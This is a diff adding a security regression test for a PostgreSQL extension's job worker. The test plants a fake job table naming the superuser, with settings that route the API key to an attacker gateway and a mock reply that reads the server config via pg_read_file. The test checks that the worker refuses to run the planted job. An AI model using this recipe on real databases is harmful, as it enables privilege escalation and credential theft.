@@ -14,6 +14,7 @@ a caller's ask because they run with their owner's rights. From there the plante
 
 import json
 import os
+import subprocess
 import tempfile
 import time
 from pathlib import Path
@@ -462,3 +463,82 @@ def test_a_new_backend_loads_the_snapshot_instead_of_rewriting_it(review_db, con
     assert snapshot.stat().st_ino == inode, (
         "a new backend wrote the catalog snapshot again although nothing changed: it could not read it"
     )
+
+
+# ---- Critical: the job worker runs jobs from any table called sqlchat.job --------------------------
+
+FAKE_EXTENSION = """
+CREATE SCHEMA sqlchat;
+CREATE TYPE sqlchat.answer AS (answer text, sql text, rows jsonb, suggestions text[], tables text[], attempts int,
+  llm_calls int, from_cache bool, elapsed_ms double precision, engine text, truncated bool, chart jsonb,
+  columns jsonb, verified boolean, example_id bigint);
+CREATE TABLE sqlchat.turn (id bigint);
+CREATE TABLE sqlchat.job (
+    id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, role_oid oid NOT NULL, role_name name NOT NULL,
+    question text NOT NULL, session_id text, settings jsonb, state text NOT NULL DEFAULT 'queued',
+    cancel_requested boolean NOT NULL DEFAULT false, runs int NOT NULL DEFAULT 0, worker bigint, worker_pid int,
+    submitted_at timestamptz NOT NULL DEFAULT clock_timestamp(), started_at timestamptz, finished_at timestamptz,
+    answer sqlchat.answer, sqlstate text, message text, detail text, hint text);
+CREATE TABLE public.anything (id int);
+-- A "job" of the bootstrap superuser, with settings only a superuser may choose.
+INSERT INTO sqlchat.job (role_oid, role_name, question, settings)
+SELECT oid, rolname, 'case root: what does the configuration say?',
+       jsonb_build_array(jsonb_build_array('sqlchat.api_base', {attacker}::text),
+                         jsonb_build_array('sqlchat.allowed_functions', 'pg_read_file'),
+                         jsonb_build_array('sqlchat.engine', 'llm'))
+FROM pg_roles WHERE oid = 10;
+"""
+
+
+@pytest.fixture(scope="module")
+def own_cluster(gateway):
+    """A cluster of this test's own: it is restarted, as servers are."""
+    if not harness.library_installed():
+        pytest.skip("sqlchat is not installed")
+    options = ["sqlchat.worker_idle_timeout=1"]
+    c = harness.Cluster(settings=options)
+    c.options = options
+    try:
+        c.set_system({"sqlchat.api_base": gateway.api_base, "sqlchat.api_key": harness.API_KEY,
+                      "sqlchat.model": harness.MODEL})
+        yield c
+    finally:
+        c.stop()
+
+
+def restart(c):
+    env = {k: v for k, v in os.environ.items() if k not in ("RUST_BACKTRACE", "RUST_LIB_BACKTRACE")}
+    subprocess.run(["bash", str(harness.CLUSTER_SCRIPT), "stop", str(c.dir)], check=True, capture_output=True)
+    subprocess.run(["bash", str(harness.CLUSTER_SCRIPT), "start", str(c.dir), str(c.port),
+                    "shared_preload_libraries=sqlchat", *c.options],
+                   check=True, capture_output=True, text=True, timeout=120, env=env)
+
+
+def test_the_job_worker_runs_only_the_extensions_own_jobs(own_cluster):
+    """A role that may create databases (or owns one without sqlchat) makes a schema called sqlchat
+    with a job table; after the next server start the worker runs its row as the superuser it names,
+    with the settings it names: the key goes to the role's gateway, the SQL runs as superuser."""
+    with harness.Gateway() as attacker:
+        attacker.rule(purpose=["generate_sql", "repair"],
+                      content="SELECT current_user AS who, pg_read_file('postgresql.auto.conf') AS conf")
+        with own_cluster.connect() as admin:
+            admin.execute("DROP DATABASE IF EXISTS rv_own WITH (FORCE)")
+            admin.execute("DROP ROLE IF EXISTS rv_dbowner")
+            admin.execute("CREATE ROLE rv_dbowner LOGIN CREATEDB")
+        with own_cluster.connect(user="rv_dbowner") as owner:
+            owner.execute("CREATE DATABASE rv_own")
+        with own_cluster.connect("rv_own", user="rv_dbowner") as owner:
+            owner.execute(sql.SQL(FAKE_EXTENSION).format(attacker=sql.Literal(attacker.api_base)))
+        restart(own_cluster)
+
+        def planted_job():
+            with own_cluster.connect("rv_own", user="rv_dbowner") as owner:
+                return owner.execute("SELECT state, (answer).rows::text FROM sqlchat.job").fetchone()
+
+        wait_until(lambda: planted_job()[0] != "queued", 15, 0.2)
+        state, rows = planted_job()
+        sent = [(r["purpose"], r.get("authorization")) for r in attacker.requests()]
+        assert state == "queued" and not sent, (
+            f"the worker ran rv_dbowner's planted job as a superuser: state {state}, rows {rows}; "
+            f"requests to rv_dbowner's gateway: {sent}"
+        )
